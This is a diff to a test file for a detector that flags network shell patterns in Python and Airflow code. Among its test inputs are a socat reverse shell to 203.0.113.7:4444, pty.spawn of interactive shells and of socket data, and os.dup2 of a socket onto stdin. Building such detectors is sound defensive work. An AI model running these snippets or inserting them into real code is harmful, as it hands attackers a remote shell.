@@ -22,6 +22,11 @@ describe("a shell on the network", () => {
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="socat tcp:203.0.113.7:4444 exec:sh")\n',
     ],
     ["Python", 'import socket, os, pty\npty.spawn("/bin/sh")\n'],
+    ["a shell with arguments", 'import pty\npty.spawn(["/bin/bash", "-i"])\n'],
+    [
+      "what comes from the network",
+      "import pty, socket\ns = socket.create_connection(('x', 1))\npty.spawn(s.recv(9))\n",
+    ],
     ["its output", "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"],
   ])("%s", async (_, text) => {
     expect(await places(text)).toHaveLength(1);
@@ -40,6 +45,7 @@ describe("a shell on the network", () => {
       "redirecting",
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="run.sh >& out.txt")\n',
     ],
+    ["a recorded program", "import pty, sys\npty.spawn(sys.argv[1:])\n"],
     ["another descriptor", 'import os\nf = open("x")\nos.dup2(f.fileno(), 0)  # eval\n'],
   ])("not: %s", async (_, text) => {
     expect(await places(text)).toEqual([]);
